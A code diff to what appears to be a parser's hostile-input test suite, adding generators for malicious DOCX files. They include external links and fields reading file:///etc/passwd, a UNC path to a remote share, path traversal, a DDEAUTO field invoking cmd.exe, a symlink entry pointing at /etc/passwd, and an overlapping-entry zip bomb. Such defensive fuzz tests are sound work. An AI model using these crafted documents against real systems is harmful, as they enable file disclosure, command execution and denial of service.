@@ -4,6 +4,7 @@ import io
 import struct
 import zipfile
 from collections.abc import Iterator, Mapping
+from xml.sax.saxutils import escape
 
 from tests.hostile.syntax import zeros
 
@@ -138,6 +139,50 @@ def broken() -> Iterator[bytes]:
     yield docx(b"")
     yield docx(document("<w:p>" * 100_000))
     yield docx(b"\xff\xfe\0\0 bukan xml \x00\x01" * 1000)
+
+
+def links() -> Iterator[bytes]:
+    """Parts that stand elsewhere, fields that fetch, and archives that hold what they do not."""
+    good = document(paragraph("Pasal 1"))
+    for kind, target in (
+        ("attachedTemplate", f"{_AWAY}.dotm"),
+        ("image", "file:///etc/passwd"),
+        ("aFChunk", "file:///etc/passwd"),
+        ("styles", "\\\\192.0.2.1\\bagi\\gaya.xml"),
+    ):
+        outside = _RELS.format(kind, target, ' TargetMode="External"')
+        spaces = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+        chunk = f'<w:altChunk {spaces} r:id="rId1"/>'
+        yield docx(document(chunk + paragraph("x")), {"word/_rels/document.xml.rels": outside})
+    yield docx(good, {"word/_rels/document.xml.rels": _RELS.format("styles", "../../../../etc/passwd", "")})
+    yield docx(good, {"word/_rels/document.xml.rels": _RELS.format("styles", "document.xml", "")})
+    fetched = ("DDEAUTO c:\\windows\\system32\\cmd.exe", 'INCLUDETEXT "file:///etc/passwd"')
+    fields = "".join(f'<w:fldSimple w:instr="{escape(one, {chr(34): "&quot;"})}"/>' for one in fetched)
+    yield docx(document(f"<w:p>{fields}</w:p>" + paragraph("x")))
+    yield _linked(good)
+    yield _overlapping(4_000)
+    yield docx(document("<w:p><w:r>" + "<w:txbxContent>" * 200 + "x"))
+
+
+def _linked(main: str) -> bytes:
+    """An archive whose parts call themselves symbolic links."""
+    out = io.BytesIO(docx(main))
+    with zipfile.ZipFile(out, "a") as archive:
+        info = zipfile.ZipInfo("word/tautan.xml")
+        info.create_system, info.external_attr = 3, 0o120777 << 16
+        archive.writestr(info, "/etc/passwd")
+    return out.getvalue()
+
+
+def _overlapping(parts: int) -> bytes:
+    """Very many entries of the catalogue that all mean one and the same swollen part."""
+    whole = bytearray(docx(document(paragraph("x")), {"word/isi.xml": b"\0" * 40_000_000}))
+    at = whole.rindex(b"PK\1\2")
+    entry, end = bytes(whole[at : whole.rindex(b"PK\5\6")]), bytearray(whole[whole.rindex(b"PK\5\6") :])
+    more = [entry.replace(b"word/isi.xml", b"word/%03x.xml" % number) for number in range(parts)]
+    start, size = struct.unpack("<L", end[16:20])[0], struct.unpack("<L", end[12:16])[0]
+    end[8:20] = struct.pack("<HHLL", 4 + parts, 4 + parts, size + sum(map(len, more)), start)
+    return bytes(whole[: whole.rindex(b"PK\5\6")]) + b"".join(more) + bytes(end)
 
 
 def tables() -> Iterator[bytes]:
